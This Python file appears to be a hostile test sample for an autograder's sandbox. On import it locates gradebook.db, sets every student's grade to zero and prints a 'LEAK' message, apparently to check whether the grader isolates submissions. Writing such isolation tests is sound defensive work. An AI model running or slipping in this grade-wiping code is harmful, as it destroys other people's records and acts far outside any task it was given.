"""Sets every grade in the gradebook to 0 (other students included), honest functions otherwise."""
# expect: full
# stock: alone (it changes other students' grades)
# ruff: noqa
# %% +end
import os
from pathlib import Path


def course_root():
    """Walk up from the working folder to the folder holding gradebook.db."""
    here = Path(os.getcwd()).resolve()
    for folder in [here, *here.parents]:
        if (folder / "gradebook.db").exists():
            return folder
    return None

import sqlite3

root = course_root()
if root is not None:
    db = sqlite3.connect(root / "gradebook.db")
    db.execute("update grade set auto_score = 0")
    db.commit()
    print("LEAK: wrote to the gradebook")
